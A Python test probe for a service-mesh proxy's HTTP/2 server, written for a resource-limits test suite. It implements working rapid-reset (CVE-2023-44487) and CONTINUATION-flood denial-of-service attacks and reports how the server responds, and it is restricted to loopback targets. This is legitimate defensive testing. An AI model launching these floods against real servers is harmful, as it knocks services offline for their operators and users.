#!/usr/bin/env python3
"""HTTP/2 abuse probes against a Ferrule proxy's HTTP/2 server, for
tests/tests/resource_limits.rs.

The proxy speaks HTTP/2 on the inbound L7 path after the mTLS hop: an attacker holding
any valid SVID (the threat model lets attackers run their own meshed workloads) reaches
it by completing the mTLS handshake with ALPN ferrule/1 and sending the 8-byte hop
header for an `http` port. This script does exactly that, then:

  request       one GET (with an --extra-header-bytes header if given); reports the
                status (without the extra header: proves the path works, a control)
  rapid-reset   HEADERS immediately followed by RST_STREAM(CANCEL), --streams times
                (CVE-2023-44487)
  continuation  one HEADERS without END_HEADERS, then CONTINUATION frames of fresh
                header fields until --bytes are sent or the server stops us
                (the 2024 "CONTINUATION flood")

It prints one JSON object on stdout describing what the server did: GOAWAY (code, last
stream id), resets, responses, whether the server closed the connection, how much of
the attack was sent before that.
"""

import argparse
import json
import socket
import ssl
import struct
import time

import h2.config
import h2.connection
import h2.errors
import h2.events
import h2.settings
from hyperframe.frame import ContinuationFrame, HeadersFrame


def connect(args):
    host, port = args.addr.rsplit(":", 1)
    sock = socket.create_connection((host, int(port)), timeout=10)
    if args.cert or args.ca:
        ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        ctx.minimum_version = ssl.TLSVersion.TLSv1_2
        # The server proves a SPIFFE ID (a URI SAN), not a host name: verify the chain
        # against the mesh's bundle and skip the host-name check.
        ctx.check_hostname = False
        ctx.load_verify_locations(args.ca)
        if args.cert:
            ctx.load_cert_chain(args.cert, args.key)
        ctx.set_alpn_protocols([args.alpn])
        sock = ctx.wrap_socket(sock)
    if args.hop_port:
        # proxy/src/hop.rs: "FRL1" | port (u16 BE) | 0x0000
        sock.sendall(b"FRL1" + struct.pack(">H", args.hop_port) + b"\0\0")
    return sock


class Observer:
    """Feeds received bytes to the h2 state machine and records what the server did."""

    def __init__(self, sock, conn):
        self.sock, self.conn = sock, conn
        self.goaway = None
        self.resets = 0
        self.responses = []
        self.closed = False
        self.error = None

    def pump(self, wait):
        """Reads what is available (waiting up to `wait` seconds for the first bytes)."""
        if self.closed:
            return
        self.sock.settimeout(wait)
        try:
            while True:
                data = self.sock.recv(65536)
                if not data:
                    self.closed = True
                    return
                self.handle(data)
                self.sock.settimeout(0.0)
        except (BlockingIOError, socket.timeout, ssl.SSLWantReadError):
            return
        except (ConnectionError, ssl.SSLError, OSError) as e:
            self.closed = True
            self.error = self.error or repr(e)

    def handle(self, data):
        try:
            events = self.conn.receive_data(data)
        except Exception as e:  # the server broke the protocol: record, stop
            self.error = repr(e)
            self.closed = True
            return
        for ev in events:
            if isinstance(ev, h2.events.ConnectionTerminated):
                self.goaway = {
                    "error_code": int(ev.error_code),
                    "error_name": getattr(ev.error_code, "name", str(ev.error_code)),
                    "last_stream_id": ev.last_stream_id,
                    "debug": (ev.additional_data or b"").decode("latin-1"),
                }
            elif isinstance(ev, h2.events.StreamReset):
                self.resets += 1
            elif isinstance(ev, h2.events.ResponseReceived):
                self.responses.append(dict(ev.headers).get(":status", ""))
        self.flush()

    def flush(self):
        out = self.conn.data_to_send()
        if out and not self.closed:
            try:
                self.sock.settimeout(10)
                self.sock.sendall(out)
            except (ConnectionError, ssl.SSLError, OSError) as e:
                self.closed = True
                self.error = self.error or repr(e)

    def stopped(self):
        return self.closed or self.goaway is not None


def request_headers(args, path="/"):
    return [
        (":method", "GET"),
        (":scheme", "http"),
        (":authority", args.authority),
        (":path", path),
    ]


def start(args):
    sock = connect(args)
    conn = h2.connection.H2Connection(
        config=h2.config.H2Configuration(client_side=True, header_encoding="utf-8")
    )
    conn.initiate_connection()
    obs = Observer(sock, conn)
    obs.flush()
    obs.pump(2.0)  # the server's SETTINGS
    return sock, conn, obs


def do_request(args, report):
    sock, conn, obs = start(args)
    sid = conn.get_next_available_stream_id()
    headers = request_headers(args, args.path)
    if args.extra_header_bytes:
        headers.append(("x-big", "a" * args.extra_header_bytes))
    conn.send_headers(sid, headers, end_stream=True)
    obs.flush()
    deadline = time.monotonic() + 10
    while not obs.responses and not obs.stopped() and time.monotonic() < deadline:
        obs.pump(1.0)
    report["responses"] = obs.responses
    return obs


def do_rapid_reset(args, report):
    sock, conn, obs = start(args)
    sent = 0
    while sent < args.streams and not obs.stopped():
        for _ in range(min(100, args.streams - sent)):
            sid = conn.get_next_available_stream_id()
            conn.send_headers(sid, request_headers(args), end_stream=True)
            conn.reset_stream(sid, error_code=h2.errors.ErrorCodes.CANCEL)
            sent += 1
        obs.flush()
        obs.pump(0.0)
    report["streams_sent"] = sent
    return obs


def hpack_literal(name, value):
    """A header field as "literal without indexing, new name" (RFC 7541 6.2.2), so the
    flood never touches either side's dynamic table."""
    assert len(name) < 127 and len(value) < 127
    return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value


def do_continuation(args, report):
    sock, conn, obs = start(args)
    sid = conn.get_next_available_stream_id()
    # The request's pseudo-headers through the real encoder, without END_HEADERS.
    block = conn.encoder.encode(request_headers(args))
    first = HeadersFrame(sid, data=block, flags=["END_STREAM"])
    sock.sendall(first.serialize())
    sent = len(block)
    i = 0
    while sent < args.bytes and not obs.stopped():
        chunk = bytearray()
        while len(chunk) < 16000:
            chunk += hpack_literal(b"x-flood-%d" % i, b"v" * 100)
            i += 1
        try:
            sock.settimeout(10)
            sock.sendall(ContinuationFrame(sid, data=bytes(chunk)).serialize())
        except (ConnectionError, ssl.SSLError, OSError) as e:
            obs.closed = True
            obs.error = obs.error or repr(e)
            break
        sent += len(chunk)
        obs.pump(0.0)
    report["header_bytes_sent"] = sent
    return obs


def main():
    p = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    p.add_argument("attack", choices=["request", "rapid-reset", "continuation"])
    p.add_argument("--addr", required=True, help="host:port (127.0.0.1 only)")
    p.add_argument("--cert", help="client certificate chain (PEM), with --ca")
    p.add_argument("--key", help="client key (PEM)")
    p.add_argument("--ca", help="trust bundle (PEM) the server must chain to; enables TLS")
    p.add_argument("--alpn", default="ferrule/1", help="ALPN to offer over TLS")
    p.add_argument("--hop-port", type=int, help="send a Ferrule hop header for this port")
    p.add_argument("--authority", default="api")
    p.add_argument("--path", default="/")
    p.add_argument("--extra-header-bytes", type=int, default=0)
    p.add_argument("--streams", type=int, default=10000)
    p.add_argument("--bytes", type=int, default=32 << 20)
    args = p.parse_args()
    host = args.addr.rsplit(":", 1)[0]
    if host not in ("127.0.0.1", "localhost", "[::1]"):
        p.error("this probe only targets loopback")

    report = {"attack": args.attack}
    started = time.monotonic()
    obs = {"request": do_request, "rapid-reset": do_rapid_reset,
           "continuation": do_continuation}[args.attack](args, report)
    # After an attack, give the server a moment to answer what it has received.
    deadline = time.monotonic() + (0 if args.attack == "request" else 3)
    while not obs.closed and time.monotonic() < deadline:
        obs.pump(0.5)
    report.update(
        goaway=obs.goaway,
        resets_received=obs.resets,
        responses=obs.responses,
        closed_by_server=obs.closed,
        error=obs.error,
        seconds=round(time.monotonic() - started, 3),
    )
    print(json.dumps(report))


if __name__ == "__main__":
    main()
